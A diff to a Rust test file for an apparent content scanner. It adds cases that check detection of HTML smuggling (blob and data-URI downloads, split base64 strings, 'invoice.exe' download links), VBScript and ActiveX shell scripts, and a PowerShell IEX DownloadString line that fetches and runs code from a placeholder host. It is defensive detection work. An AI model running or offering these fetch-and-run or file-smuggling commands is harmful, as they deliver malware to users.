@@ -15,6 +15,12 @@ fn ordinary_pages_are_harmless() {
         "A".repeat(5_000)
     );
     check("a.html", picture.as_bytes(), &[]);
+    let lines = picture.replace(&"A".repeat(5_000), &format!("{}\r\n", "A".repeat(76)).repeat(60));
+    check("a.html", lines.as_bytes(), &[]);
+    let link = "<a download='a.txt' href='data:text/plain;base64,QUFB'>a</a><script>a()</script>";
+    check("a.html", link.as_bytes(), &[]);
+    let shown = "<script>i.src = 'data:image/png;base64,' + b; w = ['a', 'b'].join(' ')</script>";
+    check("a.html", shown.as_bytes(), &[]);
     check(
         "a.svg",
         b"<svg xmlns='http://www.w3.org/2000/svg'><rect id='on' fill='none'/></svg>",
@@ -31,6 +37,9 @@ fn pages_that_build_files_are_found() {
         "<html><script>var b = new Blob([d]); a.href = URL.createObjectURL(b)</script>",
         "<script>navigator.msSaveOrOpenBlob(b, 'a.zip')</script>",
         "<SCRIPT>NAVIGATOR.MSSAVEBLOB(b)</SCRIPT>",
+        "<script>a.download=\"a.zip\";a.href=u;a.click()</script>",
+        "<script>a.setAttribute('download', 'a.zip')</script>",
+        "<script>a.href=\"data:application/octet-stream;base64,\" + d</script>",
     ] {
         check("a.html", text.as_bytes(), &rules);
         check("", text.as_bytes(), &rules);
@@ -40,6 +49,11 @@ fn pages_that_build_files_are_found() {
     }
     let long = format!("<html><script>f(atob('{}'))</script>", "QUFB".repeat(600));
     check("a.html", long.as_bytes(), &rules);
+    let pieces = |joint: &str| vec!["QUFB".repeat(20); 40].join(joint);
+    for joint in ["\"+\"", "\" +\r\n    \"", "','", "\\\n"] {
+        let page = format!("<html><script>f(atob(\"{}\"))</script>", pieces(joint));
+        check("a.html", page.as_bytes(), &rules);
+    }
     // What is no page by its beginning is one to a browser by its name.
     check("a.html", b"GIF89a<script>new Blob([a])</script>", &rules);
 }
@@ -65,6 +79,12 @@ fn addresses_with_content_are_looked_into() {
         &[(ActivePage, "page starts a program")],
     );
     check("a.html", b"<script>new ActiveXObject('a')</script>", &[(Script, "page desktop script")]);
+    let typed = b"<script type=\"text/vbscript\">MsgBox 1</script>";
+    check("a.html", typed, &[(Script, "page desktop script")]);
+    let named = b"<a href='data:text/plain;base64,QUFB' download = \"invoice.exe\">open</a>";
+    check("a.html", named, &[(Program, "name exe")]);
+    check("a.html", b"<a download=invoice.exe href=b>open</a>", &[(Program, "name exe")]);
+    check("a.html", b"<p>We download=ed.</p><a download href='b.txt'>open</a>", &[]);
 }
 
 #[test]
@@ -119,5 +139,18 @@ fn calendars_and_cards_are_looked_into() {
 fn scripts_under_other_names_are_found() {
     let text = b"Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"cmd.exe /c a\"\r\n";
     check("a.txt", text, &[(Script, "magic script")]);
-    check("a.txt", b"We use powershell.exe and Start-Process.\n", &[]);
+    for short in [
+        "var s = new ActiveXObject(\"WScript.Shell\");\ns.Run(\"a\");\n",
+        "Set s = CreateObject(\"WScript.Shell\")\ns.Run \"a\"\n",
+        "$c = New-Object Net.WebClient\nIEX $c.DownloadString('http://a.example/')\n",
+    ] {
+        check("film.mp4", short.as_bytes(), &[(Script, "magic script")]);
+    }
+    for about in [
+        "We use powershell.exe and Start-Process.\n",
+        "The function CreateObject( ) makes an object.\n",
+        "Every New-Object needs %TEMP%\\ to be there.\n",
+    ] {
+        check("a.txt", about.as_bytes(), &[]);
+    }
 }
